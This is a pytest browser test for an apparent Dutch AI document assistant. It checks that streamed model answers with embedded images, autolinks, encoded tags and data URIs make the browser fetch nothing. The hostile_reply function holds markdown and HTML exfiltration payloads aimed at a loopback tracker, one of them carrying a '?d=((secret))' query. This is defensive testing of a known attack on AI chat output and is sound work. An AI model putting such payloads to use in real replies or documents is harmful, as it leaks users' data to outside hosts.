"""Nothing live while an answer streams: a model's reply (or a document it echoes) that carries
images, reference-style images, autolinks, entities and data: URIs makes the browser fetch
nothing, during the stream or after it. Real Chromium, a real language-model client against a
loopback server that streams the reply, and a loopback "tracker" that logs every request."""

from __future__ import annotations

import sys
import threading
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))
from app_server import CHROMIUM, CHROMIUM_ARGS, running_app  # noqa: E402
from llm_server import ScriptedLLMServer, trickle  # noqa: E402
from test_app_events import FakeAssistant  # noqa: E402

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not Path(CHROMIUM).exists(),
                       reason=f"{CHROMIUM} ontbreekt; installeer met: apt-get install -y chromium"),
]


class Tracker:
    """A loopback server that answers every request with a 1×1 PNG and remembers its path."""

    PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                        "1f15c4890000000d49444154789c6360000002000100e221bc330000000049454e44ae426082")

    def __init__(self) -> None:
        self.hits: list[str] = []
        tracker = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:
                pass

            def do_GET(self) -> None:
                tracker.hits.append(self.path)
                self.send_response(200)
                self.send_header("content-type", "image/png")
                self.send_header("content-length", str(len(tracker.PNG)))
                self.end_headers()
                self.wfile.write(tracker.PNG)

        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self._httpd.serve_forever, daemon=True).start()

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self._httpd.server_address[1]}"

    def close(self) -> None:
        self._httpd.shutdown()
        self._httpd.server_close()


PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def hostile_reply(host: str) -> str:
    """Grounded sentences [1] around every way of asking the browser for an address."""
    return (
        "## Kort antwoord\n"
        "De raad stelt kaders voor de regionale samenwerking [1]. "
        f"![1](//{host}/nested.png?d=((secret))) "
        f"![x][r] [![y](//{host}/in-link.png)](//{host}/link) "
        f"<http://{host}/autolink.png> "
        f"&#33;[z](//{host}/entity.png) &lt;img src=//{host}/entity-tag.png&gt; "
        f'<img src="//{host}/tag.png"> '
        f"![d](data:image/png;base64,{PIXEL}) "
        "De raad volgt de resultaten van de regionale samenwerking [1].\n\n"
        f"[r]: //{host}/reference.png\n"
    )


class ModelAssistant(FakeAssistant):
    """Composes with the real language-model client, streaming, over one passage that itself
    carries the hostile text (a corpus document an honest model echoes)."""

    def __init__(self, backend, passage_text: str):
        super().__init__()
        self.backend = backend
        self.passage_text = passage_text

    def ask_stream(self, question, **kwargs):
        from assistant.compose.answer import Citation
        from assistant.compose.llm.compose import stream_answer
        from ingest.index.passage import Passage

        passage = Passage(id="p1", doc_id="d", title="Werkende samenwerking", kind="rapport",
                          text=self.passage_text, page=1, section="", block="tekst", steps=[1],
                          steps_inferred=False, wegwijzer=None, speaker=None, places=[],
                          research_pages=[], position=0)
        stream = stream_answer(self.backend, "vraag", question, [(1, passage)])
        yield from stream
        answer = self.ask(question, **kwargs)
        yield replace(answer, backend="openai", prose=stream.result.text,
                      citations=[Citation(1, passage, 1.0)])


def test_a_streamed_answer_with_images_and_links_makes_the_browser_fetch_nothing(tmp_path, corpus_copy):
    from playwright.sync_api import sync_playwright

    from assistant.app.ui import create_app
    from assistant.compose.llm import LLMSettings
    from assistant.compose.llm.backends import ChatBackend
    from ingest.config import Settings

    tracker = Tracker()
    try:
        reply = hostile_reply(tracker.host)
        with ScriptedLLMServer() as llm:
            llm.script(trickle(reply, 0.08))
            backend = ChatBackend(LLMSettings(backend="openai", url=llm.url("openai"),
                                              model="test-model", timeout=30))
            app = create_app(ModelAssistant(backend, reply),
                             Settings(home=tmp_path / "home", corpus_dir=corpus_copy))
            with running_app(app) as url, sync_playwright() as pw:
                browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
                page = browser.new_page(locale="nl-NL")
                requests: list[str] = []
                page.on("request", lambda r: requests.append(r.url))
                # every <img> that ever appears in the chat, however briefly
                page.add_init_script("""window.__rwImages = [];
                    new MutationObserver(() => document.querySelectorAll('#rw-chat img').forEach(
                        (img) => window.__rwImages.push(img.getAttribute('src') || ''))
                    ).observe(document, {subtree: true, childList: true, attributes: true});""")
                page.goto(url)
                page.get_by_label("Uw vraag").fill("Wat doet de raad?")
                page.get_by_role("button", name="Vraag stellen").click()
                # mid-stream: the first image is already there (as text), the cursor still is
                page.wait_for_function("(t => t.includes('afbeelding') && t.includes('▍'))("
                                       "document.querySelector('#rw-chat').innerText)",
                                       timeout=30_000, polling=50)
                streaming = page.locator("#rw-chat").inner_text()
                page.wait_for_selector("#bron-1-1", timeout=60_000)
                page.wait_for_timeout(1500)
                final = page.locator("#rw-chat").inner_text()
                images = page.evaluate("window.__rwImages")
                browser.close()
    finally:
        tracker.close()
    assert tracker.hits == [], f"the browser fetched {tracker.hits}"
    assert not [u for u in requests if tracker.host in u or u.startswith("data:")], requests
    assert [src for src in images if "avatar" not in src] == []
    assert "De raad stelt kaders" in streaming and "▍" in streaming, "shown while it streamed"
    assert "afbeelding „1”" in final and f"//{tracker.host}/nested.png" in final, \
        "the image is text: what it was and where it pointed"
